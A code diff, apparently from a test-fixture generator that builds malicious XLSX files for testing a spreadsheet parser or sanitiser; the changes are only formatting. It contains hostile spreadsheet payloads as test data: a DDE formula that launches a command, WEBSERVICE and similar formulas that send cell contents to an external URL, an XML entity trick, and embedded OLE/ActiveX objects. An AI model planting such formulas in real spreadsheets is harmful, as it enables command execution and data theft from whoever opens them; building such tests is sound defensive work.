@@ -47,9 +47,7 @@ def entity_in_a_cell(rng: random.Random) -> Made:
     if target == STRINGS and kind != "external":
         name = str(lines[0].cells[NAME])
         parts[target] = parts[target].replace(f">{name}<".encode(), b">&e;<")
-        lines = [
-            line.but(name=None, fate=Fate.safe) if line.cells[NAME] == name else line for line in lines
-        ]
+        lines = [line.but(name=None, fate=Fate.safe) if line.cells[NAME] == name else line for line in lines]
     return Made(zipped(parts), counted(placed(lines), Outcome.either), NAME_XLSX)
 
 
@@ -83,9 +81,9 @@ def formula_that_runs(rng: random.Random) -> Made:
     formula = rng.choice(
         (
             "cmd|' /c calc'!A0",
-            f'WEBSERVICE(&quot;{_URL}/?&quot;&amp;B2)',
-            f'HYPERLINK(&quot;{_URL}&quot;,&quot;x&quot;)',
-            f'IMAGE(&quot;{_URL}/a.png&quot;)',
+            f"WEBSERVICE(&quot;{_URL}/?&quot;&amp;B2)",
+            f"HYPERLINK(&quot;{_URL}&quot;,&quot;x&quot;)",
+            f"IMAGE(&quot;{_URL}/a.png&quot;)",
             "RTD(&quot;x&quot;,,&quot;y&quot;)",
         )
     )
@@ -107,7 +105,9 @@ def embedded_object(rng: random.Random) -> Made:
     """An object of another program inside the sheet."""
     lines, parts = _book(rng)
     parts["xl/embeddings/oleObject1.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + rng.randbytes(3_000)
-    parts["xl/activeX/activeX1.xml"] = b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
+    parts["xl/activeX/activeX1.xml"] = (
+        b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
+    )
     parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
         f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
         f'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
